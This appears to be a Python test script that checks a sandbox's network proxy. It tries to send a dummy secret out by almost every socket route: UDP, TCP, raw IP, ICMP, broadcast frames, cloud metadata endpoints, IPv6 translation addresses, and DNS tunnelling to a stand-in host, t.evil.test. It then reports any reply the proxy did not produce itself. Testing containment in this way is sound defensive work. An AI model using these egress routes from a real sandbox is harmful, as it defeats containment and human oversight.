"""Every kind of socket. Says `GOT` when something came back that the proxy did not say itself."""
import os, socket, struct, threading

V4, V6, SECRET = "198.51.100.66", "2001:db8:66::66", b"secret-secret-secret"
TIMEOUT = 2
tried = []


def attempt(work):
    def run():
        try:
            heard = work()
            result = "GOT %r" % heard if heard else "nothing"
        except OSError as error:
            result = type(error).__name__
        tried.append((work.__name__, result))
    thread = threading.Thread(target=run)
    thread.start()
    return thread


def made(name, work):
    work.__name__ = name
    return work


def udp(family, address, data=SECRET):
    def work():
        with socket.socket(family, socket.SOCK_DGRAM) as sock:
            sock.settimeout(TIMEOUT)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            sock.sendto(data, address)
            return sock.recv(2000)
    return work


def tcp(family, address, data=SECRET):
    def work():
        with socket.socket(family, socket.SOCK_STREAM) as sock:
            sock.settimeout(TIMEOUT)
            sock.connect(address)
            sock.sendall(data)
            return sock.recv(2000)
    return work


def fast_open():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.settimeout(TIMEOUT)
        sock.sendto(SECRET, 0x20000000, (V4, 7000))
        return sock.recv(100)


def raw(family, address, protocol):
    def work():
        with socket.socket(family, socket.SOCK_RAW, protocol) as sock:
            sock.settimeout(TIMEOUT)
            sock.sendto(struct.pack(">BBHHH", 8, 0, 0xF7FF, 0, 0) + SECRET, address)
    return work


def own_header():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(SECRET), 1, 0, 64, 17, 0,
                           socket.inet_aton("10.0.2.15"), socket.inet_aton(V4))
        sock.sendto(head + SECRET, (V4, 0))


def ping():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sock:
        sock.settimeout(TIMEOUT)
        sock.sendto(struct.pack(">BBHHH", 8, 0, 0, 0, 0) + SECRET, (V4, 0))
        return sock.recv(100)


def frames():
    """On every link, to everybody."""
    for _, link in socket.if_nameindex():
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as sock:
            sock.bind((link, 0))
            for kind in 0x0800, 0x0806, 0x86DD, 0x88B5:
                sock.send(b"\xff" * 6 + b"\x02" + b"\0" * 5 + struct.pack(">H", kind) + SECRET)


def question(name, kind):
    labels = b"".join(bytes([len(label)]) + label for label in name.split(b"."))
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def tunnel_in_names(server, tcp_too):
    """Answers are the resolver's own, and say no."""
    def work():
        for kind in 1, 28, 5, 10, 15, 16, 33, 65, 99, 255:
            query = question(b"736563726574.t.evil.test", kind)
            if tcp_too:
                with socket.create_connection((server, 53), TIMEOUT) as sock:
                    sock.sendall(struct.pack(">H", len(query)) + query)
                    reply = sock.recv(2000)[2:]
            else:
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                    sock.settimeout(TIMEOUT)
                    sock.sendto(query, (server, 53))
                    reply = sock.recv(2000)
            if reply and (reply[3] & 0xF == 0 or reply[6:8] != b"\0\0"):
                return reply
    return work


works = [fast_open, own_header, ping, frames]
for address in (V4, 443), (V4, 53), (V4, 123), ("203.0.113.53", 5353), ("224.0.0.251", 5353), ("255.255.255.255", 9), \
        ("169.254.169.254", 80), ("10.9.9.9", 9), ("10.0.2.3", 9), ("10.0.2.2", 3128):
    # The resolver answers an invalid question with an error of its own.
    if address[1] != 53:
        works.append(made("udp %s %d" % address, udp(socket.AF_INET, address)))
for address in (V6, 443), ("fe80::1", 9), ("ff02::1", 9), ("fd00:ec2::254", 80):
    works.append(made("udp6 %s %d" % address, udp(socket.AF_INET6, address)))
for address in (V4, 7000), (V4, 443), (V4, 22), ("169.254.169.254", 80), ("10.9.9.9", 80), ("10.0.2.3", 8000), ("0.0.0.0", 8000), ("127.0.0.1", 8000):
    works.append(made("tcp %s %d" % address, tcp(socket.AF_INET, address)))
for address in (V6, 7000), ("::ffff:198.51.100.66", 7000), ("64:ff9b::c633:6442", 7000), ("2002:c633:6442::1", 7000), ("fe80::1", 80), ("::1", 8000):
    works.append(made("tcp6 %s %d" % address, tcp(socket.AF_INET6, address)))
for protocol in 1, 2, 4, 6, 17, 41, 47, 50, 132:
    works.append(made("raw %d" % protocol, raw(socket.AF_INET, (V4, 0), protocol)))
    works.append(made("raw6 %d" % protocol, raw(socket.AF_INET6, (V6, 0), protocol)))
for server in "10.0.2.2", "203.0.113.53", V4:
    works.append(made("names udp " + server, tunnel_in_names(server, False)))
    works.append(made("names tcp " + server, tunnel_in_names(server, True)))
request = b"GET /secret HTTP/1.1\r\nHost: t.evil.test\r\n\r\n"
works.append(made("host header", tcp(socket.AF_INET, (V4, 80), request)))
works.append(made("absolute", tcp(socket.AF_INET, (V4, 80), request.replace(b"/secret", b"http://t.evil.test/secret"))))
for each in [attempt(work) for work in works]:
    each.join()
for name, result in sorted(tried):
    print(name, result)
print("sockets tried")
